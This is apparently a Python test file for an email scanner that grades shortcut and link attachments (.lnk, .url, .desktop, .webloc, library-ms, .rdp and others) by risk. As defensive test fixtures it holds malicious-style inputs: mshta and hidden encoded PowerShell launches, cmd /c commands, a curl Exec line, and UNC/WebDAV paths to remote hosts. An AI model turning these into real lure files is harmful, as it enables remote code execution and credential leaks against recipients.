import plistlib
import runpy
from pathlib import Path

import pytest

from sekisho.mail.finding import Severity
from sekisho.mail.opened import OpenLimits
from sekisho.parse.unpack.active import shortcuts
from sekisho.parse.unpack.opening import Budget, CorruptError, Opening

LINKS = runpy.run_path(str(Path(__file__).with_name("test_shell_link.py")))
shortcut, EXAMPLE = LINKS["shortcut"], LINKS["EXAMPLE"]


def opened(step, content, name="file", kind=""):
    content = content if isinstance(content, bytes) else content.encode()
    opening = Opening(content, name, budget=Budget(OpenLimits()))
    opening.kind = kind
    step(opening)
    assert {f.rule for f in opening.findings} <= {"attachment/shortcut"}
    return opening


def severity(step, content, **more):
    return max(f.severity for f in opened(step, content, **more).findings)


def test_shortcut_to_a_document_is_medium():
    assert severity(shortcuts.open_lnk, EXAMPLE) is Severity.MEDIUM


@pytest.mark.parametrize(
    "link",
    [
        shortcut(environment="%ComSpec%", arguments="/c start a.pdf"),
        shortcut(target="..\\..\\Windows\\System32\\cmd.exe", arguments="/c echo"),
        shortcut(environment="C:\\Windows\\System32\\mshta.exe", arguments="http://a.example/x"),
        shortcut(target="powershell.exe", arguments="-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
        shortcut(target="..\\invoice.exe"),
        shortcut(target="\\\\192.0.2.1\\share\\a.pdf"),
        shortcut(target="a.txt", icon="\\\\192.0.2.1\\share\\a.ico"),
        shortcut(target="a.txt", tail=b"x" * 20_000),
    ],
)
def test_shortcut_with_a_command_is_high(link):
    assert severity(shortcuts.open_lnk, link) is Severity.HIGH


def test_a_broken_shortcut_with_a_command_is_high_all_the_same():
    whole = shortcut(target="..\\powershell.exe", arguments="-c x")
    link = whole[:20] + bytes((whole[20] | 2,)) + whole[21:]  # says that there is a LinkInfo, which there is not
    opening = Opening(link, "a.lnk", budget=Budget(OpenLimits()))
    with pytest.raises(CorruptError):
        shortcuts.open_lnk(opening)
    assert [f.severity for f in opening.findings] == [Severity.HIGH]


def test_address_in_a_shortcut():
    opening = opened(shortcuts.open_lnk, shortcut(target="mshta.exe", arguments="http://a.example/x"))
    assert [link.url for link in opening.links] == ["http://a.example/x"]
    assert "http://a.example/x" in opening.texts[0].text


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.example/page", Severity.LOW),
        ("https://a.example/page?file=x.exe", Severity.LOW),
        ("file:///C:/Users/Public/Documents", Severity.HIGH),
        ("file://192.0.2.1/share/a.pdf", Severity.HIGH),
        ("\\\\192.0.2.1\\share\\a.exe", Severity.HIGH),
        ("search-ms:query=a&crumb=location:\\\\192.0.2.1\\share", Severity.HIGH),
        ("smb://192.0.2.1/share", Severity.HIGH),
        ("https://a.example/setup.exe", Severity.HIGH),
    ],
)
def test_internet_shortcut(url, expected):
    opening = opened(shortcuts.open_url, f"[InternetShortcut]\r\nURL={url}\r\n")
    assert opening.findings[0].severity is expected
    assert [link.url for link in opening.links] == [url]


def test_internet_shortcut_whose_icon_is_on_another_computer():
    content = "[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=\\\\192.0.2.1\\a\\b.ico\r\nIconIndex=1\r\n"
    assert severity(shortcuts.open_url, content) is Severity.HIGH


def test_desktop_entry():
    assert (
        severity(shortcuts.open_desktop, "[Desktop Entry]\nType=Application\nExec=sh -c 'curl x'\n") is Severity.HIGH
    )
    opening = opened(shortcuts.open_desktop, "[Desktop Entry]\nType=Link\nURL=https://a.example/\n")
    assert opening.findings[0].severity is Severity.LOW
    assert [link.url for link in opening.links] == ["https://a.example/"]


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_webloc(form):
    content = plistlib.dumps({"URL": "https://a.example/?a=1&b=2"}, fmt=form)
    opening = opened(shortcuts.open_webloc, content)
    assert [link.url for link in opening.links] == ["https://a.example/?a=1&b=2"]
    assert opening.findings[0].severity is Severity.LOW
    content = plistlib.dumps({"URL": "file://192.0.2.1/a"}, fmt=form)
    assert severity(shortcuts.open_webloc, content) is Severity.HIGH


@pytest.mark.parametrize(
    "content", [b"", b"bplist00", b"bplist00" + b"\xff" * 40, b"<plist/>", b"bplist00\xa1\x00" + bytes(32)]
)
def test_broken_webloc(content):
    with pytest.raises(CorruptError):
        opened(shortcuts.open_webloc, content)


@pytest.mark.parametrize(
    "content",
    [
        (
            "<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
            "<url>\\\\192.0.2.1\\DavWWWRoot</url></simpleLocation></searchConnectorDescription>"
            "</searchConnectorDescriptionList></libraryDescription>"
        ),
        (
            "<PCSettings><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink>"
            "</ApplicationInformation></PCSettings>"
        ),
        "<libraryDescription><url>https://a.example/dav</url></libraryDescription>",
    ],
)
def test_settings_with_a_command_or_another_computer_are_high(content):
    assert severity(shortcuts.open_windows_xml, content, kind="library-ms") is Severity.HIGH


def test_local_library_is_medium():
    content = (
        '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation>'
        "<url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></libraryDescription>"
    )
    assert severity(shortcuts.open_windows_xml, content, kind="library-ms") is Severity.MEDIUM


def test_remote_desktop():
    assert severity(shortcuts.open_rdp, "full address:s:host.example\r\n") is Severity.MEDIUM
    assert severity(shortcuts.open_rdp, "full address:s:host.example\r\ndrivestoredirect:s:*\r\n") is Severity.HIGH


def test_web_query():
    opening = opened(shortcuts.open_web_query, "WEB\r\n1\r\nhttps://a.example/cells\r\n")
    assert opening.findings[0].severity is Severity.HIGH
    assert [link.url for link in opening.links] == ["https://a.example/cells"]


def test_files_that_windows_knows_by_name():
    theme = "[Theme]\r\nBrandImage=\\\\192.0.2.1\\a\\b.png\r\n"
    assert severity(shortcuts.look_at_named_files, theme, name="a.theme", kind="text") is Severity.HIGH
    assert opened(shortcuts.look_at_named_files, theme, name="a.txt", kind="text").findings == []
    assert opened(shortcuts.look_at_named_files, "[Theme]\r\n", name="a.theme", kind="text").findings == []
    clickonce = "<assembly><deployment/><url>http://a.example/a.application</url></assembly>"
    assert severity(shortcuts.look_at_named_files, clickonce, name="a.application", kind="xml") is Severity.HIGH
